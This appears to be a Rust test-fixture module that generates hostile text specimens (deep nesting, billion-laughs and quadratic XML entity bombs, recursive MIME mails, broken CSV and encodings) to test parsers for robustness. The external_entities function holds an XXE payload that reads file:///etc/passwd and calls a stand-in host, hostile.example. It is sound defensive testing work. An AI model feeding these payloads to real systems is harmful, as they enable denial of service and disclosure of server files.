// SPDX-FileCopyrightText: 2026 The hoheit authors
// SPDX-License-Identifier: EUPL-1.2

//! Text formats without bottom: brackets, tags, mails in mails, entities that multiply.

use super::Specimen;

/// Deep enough for any recursive reader to run out of stack.
const DEEP: usize = 100_000;

pub(super) fn specimens() -> Vec<Specimen> {
    let nest = |open: &str, middle: &str, close: &str| {
        format!("{}{middle}{}", open.repeat(DEEP), close.repeat(DEEP))
    };
    vec![
        Specimen::new("deep.json", nest("[", "1", "]")),
        Specimen::new("deep-objects.json", nest("{\"a\":", "1", "}")),
        Specimen::new("deep-never-closed.json", "[".repeat(DEEP)),
        Specimen::new("long-number.json", format!("[{}]", "9".repeat(DEEP * 10))),
        Specimen::new("deep.xml", nest("<a>", "innen", "</a>")),
        Specimen::new("deep-never-closed.xml", "<a>".repeat(DEEP)),
        Specimen::new("many-attributes.xml", many_attributes()),
        Specimen::new("billion-laughs.xml", billion_laughs()),
        Specimen::new("quadratic-blowup.xml", quadratic()),
        Specimen::new("external-entities.xml", external_entities()),
        Specimen::new("deep.html", nest("<div>", "innen", "</div>")),
        Specimen::new("deep-tables.html", nest("<table><tr><td>", "innen", "</td></tr></table>")),
        Specimen::new("open-comment.html", format!("<html><!--{}", " <!-- ".repeat(DEEP))),
        Specimen::new("open-tag.html", format!("<p>Anfang</p><a {}", "href=\"x\" ".repeat(DEEP))),
        Specimen::new(
            "entities.html",
            format!("<p>{}</p>", "&#x10ffff;&bogus;&#99999999999;".repeat(DEEP / 10)),
        ),
        Specimen::new("deep.rtf", format!("{{\\rtf1 {}innen{}}}", "{".repeat(DEEP), "}".repeat(DEEP))),
        Specimen::new("never-closed.rtf", format!("{{\\rtf1 {}", "{\\b ".repeat(DEEP))),
        Specimen::new("binary-without-end.rtf", "{\\rtf1 Anfang \\bin2147483647 Rest}"),
        Specimen::new(
            "numbers.rtf",
            format!("{{\\rtf1 \\u-99999999999999999999?{}}}", "\\uc9999999 ".repeat(1_000)),
        ),
        Specimen::new("mail-in-mail-1000.eml", mail_in_mail(1_000)),
        Specimen::new("parts-in-parts-1000.eml", parts_in_parts(1_000)),
        Specimen::new("never-ending-parts.eml", never_ending_parts()),
        Specimen::new("many-headers.eml", format!("{}\r\nText\r\n", "X-Kopf: Wert\r\n".repeat(DEEP))),
        Specimen::new(
            "long-header.eml",
            format!("Subject: {}\r\n\r\nText\r\n", "=?utf-8?Q?=C3=A4?= ".repeat(DEEP)),
        ),
        Specimen::new("broken-words.eml", broken_words()),
        Specimen::new("without-end.mbox", without_end()),
        Specimen::new("only-separators.mbox", "From x@y.example Mon Jan  1 00:00:00 2024\n".repeat(DEEP)),
        Specimen::new("quote-never-closed.csv", format!("a;b;\"{}", "c;d\n".repeat(DEEP))),
        Specimen::new("half-a-million-columns.csv", ";".repeat(DEEP * 5)),
        Specimen::new("two-million-rows.csv", "\n".repeat(DEEP * 20)),
        Specimen::new("five-mebibytes-in-a-line.csv", "Mustermann;12.08.1964;".repeat((5 << 20) / 22)),
        Specimen::new("zeros.txt", vec![0; 1 << 20]),
        Specimen::new("odd-half-of-utf-16.txt", b"\xff\xfeA\0\0\xd8B\0\0".to_vec()),
        Specimen::new("not-utf-8.txt", b"\xef\xbb\xbf\xc3\x28\xa0\xa1\xe2\x82\xf0\x9f\x98".repeat(1_000)),
        Specimen::new("escapes.txt", "\u{1b}[2J\u{1b}]0;Titel\u{7}\u{202e}gnp.exe\u{0}\r".repeat(1_000)),
        Specimen::new(
            "folded-for-ever.ics",
            format!("BEGIN:VCALENDAR\r\nDESCRIPTION:x{}", "\r\n y".repeat(DEEP)),
        ),
        Specimen::new("deep.ics", "BEGIN:VEVENT\r\n".repeat(DEEP)),
        Specimen::new("semicolons.vcf", format!("BEGIN:VCARD\r\nN:{}\r\nEND:VCARD\r\n", ";".repeat(DEEP))),
        Specimen::new("deep-quotes.md", format!("{}innen\n", "> ".repeat(DEEP))),
        Specimen::new("deep-brackets.md", "[".repeat(DEEP)),
    ]
}

fn many_attributes() -> String {
    let mut out = String::from("<a");
    for number in 0..DEEP {
        put!(out, " x{number}=\"1\"");
    }
    out + "/>"
}

/// Ten to the ninth "lol" from a page of text.
pub(super) fn billion_laughs() -> String {
    let mut out = String::from("<?xml version=\"1.0\"?>\n<!DOCTYPE a [<!ENTITY l0 \"lol\">\n");
    for level in 1..10 {
        put!(out, "<!ENTITY l{level} \"{}\">\n", format!("&l{};", level - 1).repeat(10));
    }
    out + "]>\n<a>&l9;</a>\n"
}

fn quadratic() -> String {
    format!("<!DOCTYPE a [<!ENTITY x \"{}\">]><a>{}</a>", "A".repeat(DEEP), "&x;".repeat(DEEP))
}

/// A reader that follows them opens a file or a connection.
fn external_entities() -> String {
    "<?xml version=\"1.0\"?>\n<!DOCTYPE a SYSTEM \"http://hostile.example/a.dtd\" [\
     <!ENTITY file SYSTEM \"file:///etc/passwd\"><!ENTITY web SYSTEM \"http://hostile.example/x\">\
     <!ENTITY % more SYSTEM \"file:///dev/zero\">%more;]>\n<a>vor &file; zwischen &web; nach</a>\n"
        .to_owned()
}

fn mail_in_mail(depth: usize) -> String {
    let mut out = String::new();
    for level in 0..depth {
        put!(
            out,
            "From: a@hostile.example\r\nSubject: Stufe {level}\r\nMIME-Version: 1.0\r\nContent-Type: message/rfc822\r\n\r\n"
        );
    }
    out + "Subject: Ganz innen\r\n\r\nErika Mustermann\r\n"
}

fn parts_in_parts(depth: usize) -> String {
    let mut out = String::from("Subject: Teile\r\nMIME-Version: 1.0\r\n");
    for level in 0..depth {
        put!(out, "Content-Type: multipart/mixed; boundary=\"b{level}\"\r\n\r\n--b{level}\r\n");
    }
    out.push_str("Content-Type: text/plain\r\n\r\nErika Mustermann\r\n");
    for level in (0..depth).rev() {
        put!(out, "--b{level}--\r\n");
    }
    out
}

fn never_ending_parts() -> String {
    let part = "--b\r\nContent-Type: text/plain\r\n\r\nTeil\r\n".repeat(DEEP / 2);
    format!("MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n{part}")
}

fn broken_words() -> String {
    let broken = "=?utf-8?B?%%%?= =?x-unknown?Q?=ZZ?= =?utf-8?Q?=E4=?= =?".repeat(500);
    format!(
        "From: {broken}\r\nSubject: {broken}\r\nContent-Type: text/plain; charset=\"no-such\"\r\n\
         Content-Transfer-Encoding: base64\r\n\r\n====AAA\u{0}%%%\r\n"
    )
}

/// Mails whose parts never close, the last one cut inside its attachment.
fn without_end() -> String {
    let mail = "From x@y.example Mon Jan  1 00:00:00 2024\nSubject: offen\nMIME-Version: 1.0\n\
                Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: application/zip\n\
                Content-Transfer-Encoding: base64\n\nUEsDBBQ\n";
    mail.repeat(5_000) + "QUFB"
}
